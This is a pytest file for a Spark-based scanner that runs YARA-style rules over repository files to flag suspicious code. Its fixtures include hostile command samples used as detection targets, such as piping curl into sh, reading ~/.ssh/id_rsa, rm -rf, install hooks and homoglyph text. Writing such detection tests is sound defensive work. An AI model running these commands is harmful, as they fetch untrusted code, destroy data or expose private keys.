import json

import pytest
from pyspark.sql import functions as F

from gitsift.plans.commit_queries import rule_scan
from gitsift.rules.basic import BASIC
from gitsift.rules.engine import SCAN_BYTES, Rule, Text, load_rules, needed_part, path_excluded, path_matches, scan


def hits(spark, rules, files):
    df = spark.createDataFrame(files, "path string, text string")
    return [[h.rule_id for h in r.yara_hits] for r in scan(df.coalesce(1), rules).collect()]


def one(spark, text, condition, **strings):
    return hits(spark, [Rule("r", condition, strings)], [("a.py", text)])[0] == ["r"]


def test_counts_overlap(spark):
    plus = Text('"+"', "text")
    assert one(spark, '"+"+"', ["ge", ["count", "s"], 2], s=plus)
    assert not one(spark, '"+"+"', ["ge", ["count", "s"], 3], s=plus)
    assert one(spark, "aXaXbX", ["gt", ["count", "a"], ["add", ["count", "b"], 0]], a=Text("aX"), b=Text("bX"))


def test_dialect(spark):
    assert one(spark, "éeval(", ["any"], s=Text(r"\beval\("))  # ASCII word borders
    assert one(spark, "a\rb", ["any"], s=Text("a.b")) and not one(spark, "a\nb", ["any"], s=Text("a.b"))
    assert not one(spark, "end\n", ["any"], s=Text("end$")) and one(spark, "end", ["any"], s=Text("end$"))
    assert not one(spark, "x\nbegin", ["any"], s=Text("^begin"))
    assert one(spark, "EVAL", ["any"], s=Text("eval", nocase=True)) and not one(spark, "EVAL", ["any"], s=Text("eval"))
    assert one(spark, "a.b", ["any"], s=Text("a.b", "text")) and not one(spark, "axb", ["any"], s=Text("a.b", "text"))
    assert one(spark, "[x]", ["any"], s=Text(r"[[\]]x"))


def test_needed_part():
    import random
    import re

    cases = {r"\bsubprocess\.(?:run|call)\b": "subprocess.", r"a|bcd": "", r"x?yz*uv+w": "uv", r"\\x[0-9a-f]{2}": "\\x", r"(?:curl|wget)\s+-?": "", r"[]a]bc[^]d]": "bc", r"ab{2}cde": "cde", r"\x41bc": "bc", r"(a[)]b)cd": "cd", r"a\(b": "a(b", "": "", r"(a\)|b)?xy": "xy", r"ab+?c": "ab"}
    assert {p: needed_part(p) for p in cases} == cases
    r = random.Random(1)
    for p in cases:
        for _ in range(300):
            t = "".join(r.choice(["a", "b", "c", "d", "e", "x", "y", "u", "v", "w", "subprocess.", "run", "\\x", "(", ")", "2f", "cde", "curl -"]) for _ in range(8))
            if re.search(p, t):
                assert needed_part(p) in t


def test_decoded_characters(spark):
    s = Text(r"\p{IsLatin}\p{IsCyrillic}", "unicode")
    assert one(spark, "pаypal", ["any"], s=s) and not one(spark, "plain", ["any"], s=s) and not one(spark, "а b", ["any"], s=s) and one(spark, "é" + "bж", ["any"], s=s)
    cut = scan(spark.createDataFrame([("f", "xж" + "é" * 9)], "path string, text string"), [Rule("r", ["any"], {"s": s})], max_bytes=4).first()  # ends inside a character
    assert len(cut.yara_hits) == 1
    with pytest.raises(ValueError):
        one(spark, "x", ["ge", ["count"], 1], s=s)


def test_word_borders(spark):
    import re

    texts = ["ab", "xab", "ab1", "-ab-", "a", "b", "xb", "", "_ab", "ab_", "ab ba", "aab", "b-a", "é ab", "abb"]
    patterns = [r"\bab", r"ab\b", r"\bab\b", r"\ba?b", r"\ba*b", r"a\b-", r"(?:a|b)\b", r"a{1,2}\b", r"\b[ab]", r"\w\b", r"\Bb", r"b\B", r"\b$", r"-\ba?"]
    rules = [Rule(f"r{i:02}", ["any"], {"s": Text(p)}) for i, p in enumerate(patterns)]
    found = hits(spark, rules, [("x", t) for t in texts])
    for t, got in zip(texts, found):
        want = [r.id for r, p in zip(rules, patterns) if t and re.search(p.replace("$", r"\Z"), t, re.A)]
        assert got == want, t


def test_conditions(spark):
    s = {"a1": Text("A"), "a2": Text("B"), "c": Text("C")}
    assert one(spark, "AB", ["of", 2], **s) and not one(spark, "A", ["of", 2], **s)
    assert one(spark, "A", ["any", "a*"], **s) and not one(spark, "C", ["any", "a*"], **s)
    assert one(spark, "AC", ["and", ["any", "a*"], ["not", ["any", "a2"]]], **s) and one(spark, "C", ["or", ["all", "a*"], ["any", "c"]], **s)
    with pytest.raises(ValueError):
        one(spark, "", ["any", "z"], **s)


def test_references_private_and_order(spark):
    rules = [Rule("p", ["any"], {"s": Text("X")}, private=True), Rule("q", ["rule", "p"], severity="high"), Rule("r", ["any"], {"s": Text("X")}, description="d")]
    row = scan(spark.createDataFrame([("f.js", "X")], "path string, text string"), rules).first().yara_hits
    assert [(h.rule_id, h.description, h.severity) for h in row] == [("q", "q", "high"), ("r", "d", "medium")]
    with pytest.raises(ValueError):
        hits(spark, [Rule("x", ["rule", "y"]), Rule("y", ["rule", "x"])], [("f", "X")])


def test_paths(spark):
    paths = ["package.json", "web/package.json", "a/b/c.py", "c.py"]
    df = spark.createDataFrame([(p,) for p in paths], "p string").coalesce(1)
    ask = lambda globs: [r[0] for r in df.select(path_matches(F.col("p"), globs)).collect()]
    assert ask(["*/package.json"]) == [False, True, False, False]  # a pattern with a slash never meets a root file
    assert ask(["package.json"]) == [True, True, False, False]
    assert ask(["a*.py"]) == [False, False, True, False] and ask(["*.py"]) == [False, False, True, True] and ask([]) == [True] * 4
    df = spark.createDataFrame([(p,) for p in ["a1.py", "ab.py", "a-.py", "a[.py", "a^.py"]], "p string").coalesce(1)
    ask = lambda globs: [r[0] for r in df.select(path_matches(F.col("p"), globs)).collect()]
    assert ask(["a[0-9].py"]) == [True, False, False, False, False] and ask(["a[!0-9].py"]) == [False, True, True, True, True]
    assert ask(["a[[].py"]) == [False, False, False, True, False] and ask(["a[.py"]) == [False, False, False, True, False] and ask(["a[b^-].py"]) == [False, True, True, False, True]
    df = spark.createDataFrame([(p,) for p in ["tests/a.py", "a/Tests/b", "tests", "x/test", "src/a"]], "p string").coalesce(1)
    assert [r[0] for r in df.select(path_excluded(F.col("p"))).collect()] == [True, True, False, False, False]


def test_edges(spark):
    rules = [Rule("r", ["any"], {"s": Text("X")})]
    assert hits(spark, rules, [(None, "X"), ("", "X"), ("a", None), ("a", ""), ("build/a", "X"), ("a", "X")]) == [[], [], [], [], [], ["r"]]
    assert hits(spark, rules, [("a", "é" * (SCAN_BYTES // 2) + "X"), ("a", "a" + "é" * (SCAN_BYTES // 2) + "X"), ("a", "a" * (SCAN_BYTES - 1) + "X")]) == [[], [], ["r"]]
    none = spark.createDataFrame([], "path string, text string")
    assert scan(none, rules).count() == 0


def test_documents_are_scanned_by_all_rules_and_whole(spark, tmp_path):
    texts = {
        "download_and_run": "os.system(x); requests.get(y)",
        "deletes_files": "rm -rf /x",
        "reads_secrets": "a" * SCAN_BYTES + " ~/.ssh/id_rsa",
        "enumerates_host": "os.uname platform.node",
        "install_hook": '"postinstall": "x"',
        "hex_escapes": r"\x41" * 20,
        "string_glue": "eval(x)",
    }
    rows = [(i, t) for i, t in enumerate(texts.values())] + [(90, None), (91, ""), (92, "plain")]
    spark.createDataFrame(rows, "doc_id long, text string").write.parquet(str(tmp_path / "documents.parquet"))
    got = {(r.doc_id, r.rule_id) for r in rule_scan(spark, str(tmp_path)).collect()}
    assert {(i, k) for i, k in enumerate(texts)} <= got and {k for _, k in got} == {*texts, "downloads"} and max(i for i, _ in got) < 90


def test_load(spark, tmp_path):
    (tmp_path / "b.json").write_text(json.dumps([{"id": "two", "condition": ["any"], "strings": {"s": {"pattern": "y"}}}]))
    (tmp_path / "a.json").write_text(json.dumps([{"id": "one", "condition": ["any"], "strings": {"s": {"pattern": "Y", "kind": "text", "nocase": True}}, "include": ["*.py"], "severity": "low"}]))
    assert hits(spark, load_rules(str(tmp_path)), [("a.py", "y"), ("a.c", "y")]) == [["one", "two"], ["two"]]


POSITIVE = {
    "downloads": ("x.md", "curl -s http://x | sh"), "download_and_run": ("x.py", "os.system(requests.get (u))"), "deletes_files": ("x.sh", "rm -rf /tmp/x"), "reads_secrets": ("x", "cat ~/.ssh/id_rsa"),
    "enumerates_host": ("x.py", "socket.gethostname(); os.uname"), "install_hook": ("package.json", '"preinstall": "node x"'), "many_http_specs": ("package.json", '"a": "http://x" "b": "https://y"'),
    "hex_escapes": ("x.js", "\\x41" * 20), "string_glue": ("x.js", "eval (x)"), "mixed_scripts": ("x", "pаypal"), "raises_errors": ("x", "raise AError(1)\nraise BError(2)"), "versions_pinned": ("x", '+++ b/x "^1.2.3"'),
}


def test_every_rule(spark):
    public = [r.id for r in BASIC if not r.private]
    assert set(public) == set(POSITIVE)
    for name, found in zip(POSITIVE, hits(spark, BASIC, list(POSITIVE.values()))):
        assert name in found
    assert hits(spark, BASIC, [("x.py", "plain words only")]) == [[]]
